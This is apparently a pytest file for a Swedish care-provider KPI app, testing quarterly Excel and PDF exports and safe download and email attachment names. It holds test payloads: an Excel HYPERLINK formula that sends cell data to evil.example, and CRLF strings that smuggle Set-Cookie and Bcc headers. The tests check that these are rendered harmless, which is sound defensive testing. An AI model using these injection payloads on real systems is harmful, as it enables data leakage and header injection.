"""The quarterly matrix as documents: Excel with numbers, formats, fills and status columns; a PDF
from the HTML template on A4 landscape; formula-like names as text; safe download names."""

import io
import re
import shutil
import subprocess
from datetime import date

import pytest
from openpyxl import load_workbook

from foljsam.monthly import exports
from foljsam.monthly.engine.kpis import CATALOGUE
from foljsam.monthly.models import KpiSnapshot, QuarterSnapshot
from foljsam.registry.models import Contract, ContractForm, Ownership, Provider

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'


def _values(provider, **overrides):
    values = {k.key: (0.01 if k.kind in ("share", "rate") else 12) for k in CATALOGUE}
    values.update(visits=1234, execution_rate=1.0, median_visit_minutes=23.5)
    values.update(overrides)
    return {"provider_id": provider.code, **values}


def _snap(provider, period, **overrides):
    KpiSnapshot.objects.create(provider=provider, period=period, values=_values(provider, **overrides))


def _column(ws, header):
    return [c.value for c in ws[4]].index(header) + 1


def _row(ws, name):
    return next(r for r in ws.iter_rows(min_row=5) if r[0].value == name)


@pytest.fixture
def quarter(world):
    _snap(world.provider_a, "2026-01", manual_share=0.2)
    _snap(world.provider_a, "2026-02")
    _snap(world.provider_b, "2026-02", manual_share=0.01)
    # The quarter's figures come from the engine over the quarter's rows (services.quarter_figures); here
    # they are stored as the engine would, so that this test is about the rendering.
    QuarterSnapshot.objects.create(provider=world.provider_a, quarter="2026-Q1", periods=[],
                                   values=_values(world.provider_a, visits=2468, manual_share=0.105))
    return world


def test_excel_holds_numbers_with_formats_fills_and_a_status_column(quarter, client):
    client.force_login(quarter.officer)
    response = client.get("/manadsuppfoljning/kvartal/2026-Q1.xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["Januari 2026", "Februari 2026", "Mars 2026", "Kvartalet"]
    ws = wb["Januari 2026"]
    assert [c.value for c in ws[4]][:2] == ["Utförare", "Kod"]
    alfa = _row(ws, "Alfa Omsorg AB")
    manual = alfa[_column(ws, "Andel manuella registreringar") - 1]
    status = alfa[_column(ws, "Andel manuella registreringar – status") - 1]
    assert (manual.value, manual.data_type, manual.number_format) == (0.2, "n", "0.0%")
    assert manual.fill.fgColor.rgb.endswith("FBD9D7")
    assert status.value == "Röd" and status.fill.fgColor.rgb.endswith("FBD9D7")
    visits = alfa[_column(ws, "Besök") - 1]
    assert (visits.value, visits.data_type, visits.number_format) == (1234, "n", "#,##0")
    median = alfa[_column(ws, "Mediantid per besök (min)") - 1]
    assert (median.value, median.number_format) == (23.5, "0.0")
    # A figure without a threshold has no status column.
    assert "Besök – status" not in [c.value for c in ws[4]]
    # Beta has no rows in January: no number, no colour, "no data" in grey.
    beta = _row(ws, "Beta Hemtjänst AB")
    assert beta[_column(ws, "Andel manuella registreringar") - 1].value is None
    assert beta[_column(ws, "Andel manuella registreringar – status") - 1].value == "Ingen data"
    assert not any(c.fill.fgColor.rgb.endswith(("FBD9D7", "FFF1B8", "D8F0DC")) for c in beta)
    # The quarter's figures are numbers too, so Excel can sum and sort them.
    q = _row(wb["Kvartalet"], "Alfa Omsorg AB")
    assert q[_column(wb["Kvartalet"], "Besök") - 1].value == 2468
    assert q[_column(wb["Kvartalet"], "Andel manuella registreringar") - 1].value == pytest.approx(0.105)
    assert ws.freeze_panes == "C5" and ws.auto_filter.ref.startswith("A4:")
    # No cell anywhere holds a number written as text.
    for sheet in wb:
        for row in sheet.iter_rows(min_row=5):
            for cell in row[2:]:
                assert not (isinstance(cell.value, str) and re.search(r"\d", cell.value)), cell.value


def test_formula_like_provider_names_are_text_in_the_excel(world, client):
    world.provider_a.name, world.provider_a.code = HOSTILE, "+P-A"
    world.provider_a.save()
    _snap(world.provider_a, "2026-01")
    client.force_login(world.officer)
    wb = load_workbook(io.BytesIO(client.get("/manadsuppfoljning/kvartal/2026-Q1.xlsx").content))
    for sheet in wb:
        row = _row(sheet, HOSTILE)
        assert (row[0].data_type, row[1].value, row[1].data_type) == ("s", "+P-A", "s")
        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)


def test_emailed_matrix_is_safe_too(world):
    world.provider_a.name = "-" + HOSTILE
    world.provider_a.save()
    _snap(world.provider_a, "2026-02")
    data = exports.quarter_matrix(user=world.officer, year=2026, quarter=1, provider=world.provider_a)
    ws = load_workbook(io.BytesIO(exports.to_xlsx(data)))["Februari 2026"]
    assert _row(ws, "-" + HOSTILE)[0].data_type == "s"


def test_download_name_with_a_newline_or_quote_in_the_provider_code(world, client):
    world.provider_a.code = 'P"A\r\nSet-Cookie: x=1'
    world.provider_a.save()
    _snap(world.provider_a, "2026-01")
    client.force_login(world.officer)
    for fmt in ("xlsx", "pdf"):
        response = client.get(f"/manadsuppfoljning/kvartal/2026-Q1.{fmt}?utforare={world.provider_a.pk}")
        assert response.status_code == 200
        disposition = response["Content-Disposition"]
        assert "\n" not in disposition and "\r" not in disposition and disposition.count('"') == 2
        assert disposition.endswith(f".{fmt}")


def _pdftotext(data: bytes, *args) -> str:
    return subprocess.run(["pdftotext", *args, "-", "-"], input=data, capture_output=True, check=True).stdout.decode()


def _page_sizes(data: bytes) -> list[tuple[float, float]]:
    out = subprocess.run(["pdfinfo", "-f", "1", "-l", "999", "-"], input=data, capture_output=True,
                         check=True).stdout.decode()
    return [(float(w), float(h)) for w, h in re.findall(r"Page\s+\d+ size:\s+([\d.]+) x ([\d.]+)", out)]


needs_poppler = pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils not installed")


@needs_poppler
def test_pdf_of_fifteen_providers_is_landscape_with_full_names_and_repeated_headers(world, client):
    area = world.area
    names = [f"Omsorgsbolaget {i:02d} i Mellanstaden AB" for i in range(15)]
    for i, name in enumerate(names):
        p = Provider.objects.create(code=f"P{i:02d}", name=name, ownership=Ownership.PRIVATE)
        Contract.objects.create(provider=p, area=area, form=ContractForm.LOV, start=date(2020, 1, 1))
        for period in ("2026-10", "2026-11", "2026-12"):
            _snap(p, period, manual_share=0.2 if i % 3 == 0 else 0.01)
    client.force_login(world.officer)
    response = client.get("/manadsuppfoljning/kvartal/2026-Q4.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    sizes = _page_sizes(response.content)
    assert sizes and all(w > h for w, h in sizes)  # A4 landscape: 842 × 595 pt
    assert all(round(w) == 842 and round(h) == 595 for w, h in sizes)
    text = _pdftotext(response.content)
    flat = re.sub(r"\s+", " ", text)
    for heading in ("Oktober 2026", "November 2026", "December 2026", "Kvartalet"):
        assert heading in flat
    for kpi in CATALOGUE:  # every figure name in full (none cut)
        assert kpi.label_sv in flat
    # Each provider name appears in full – wrapped within its column, never cut.
    # Each provider name in full, once per month and once for the quarter: its words are whole
    # (wrapped between words within the column, never cut or overlapping the next column).
    joined = re.sub(r"\s+", " ", text.replace("\u2010\n", ""))  # hyphenated at a line end, not cut
    assert [joined.count(name) for name in names] == [4] * 15
    # The provider columns are spread over tables of at most 10, every table with its header row.
    pages = text.split("\f")
    assert sum("Nyckeltal" in page for page in pages) == 8  # 4 periods × 2 tables, each whole on a page


@needs_poppler
def test_pdf_for_one_provider_shows_figures_by_month(world, client):
    _snap(world.provider_a, "2026-01", manual_share=0.2)
    _snap(world.provider_a, "2026-03")
    client.force_login(world.user_a)
    response = client.get("/manadsuppfoljning/kvartal/2026-Q1.pdf")
    assert response.status_code == 200
    flat = re.sub(r"\s+", " ", _pdftotext(response.content))
    assert "Alfa Omsorg AB" in flat and "Beta" not in flat
    assert "Januari 2026" in flat and "Februari 2026" in flat and "Mars 2026" in flat and "Kvartalet" in flat
    assert "20,0 %" in flat and "Ingen data" in flat  # February has no rows
    assert "Andel manuella registreringar" in flat


def test_emailed_matrix_with_a_newline_or_quote_in_the_provider_code(world, mailoutbox,
                                                                     django_capture_on_commit_callbacks):
    from foljsam.monthly import services

    world.provider_b.code = 'P"B\r\nBcc: evil@example.org'
    world.provider_b.name = HOSTILE
    world.provider_b.save()
    _snap(world.provider_b, "2026-02")
    with django_capture_on_commit_callbacks(execute=True):
        services.quarter_matrix_send(by=world.officer, year=2026, quarter=1)
    [mail] = mailoutbox
    raw = mail.message().as_string()  # raised HeaderParseError with the code in the file name
    assert "Bcc: evil@example.org" not in raw.split("\n\n", 1)[0]
    names = [a[0] for a in mail.attachments]
    assert all("\n" not in n and '"' not in n for n in names) and names[0].endswith(".xlsx")
    ws = load_workbook(io.BytesIO(mail.attachments[0][1]))["Februari 2026"]
    assert _row(ws, HOSTILE)[0].data_type == "s"


def test_a_quarter_without_figures_still_gives_documents(world, client):
    client.force_login(world.officer)
    wb = load_workbook(io.BytesIO(client.get("/manadsuppfoljning/kvartal/2026-Q2.xlsx").content))
    assert wb.sheetnames == ["April 2026", "Maj 2026", "Juni 2026", "Kvartalet"]
    assert [c.value for c in wb["April 2026"][4]][:2] == ["Utförare", "Kod"] and wb["April 2026"].max_row == 4
    pdf = client.get("/manadsuppfoljning/kvartal/2026-Q2.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        assert "Inga nyckeltal för perioden." in _pdftotext(pdf.content)
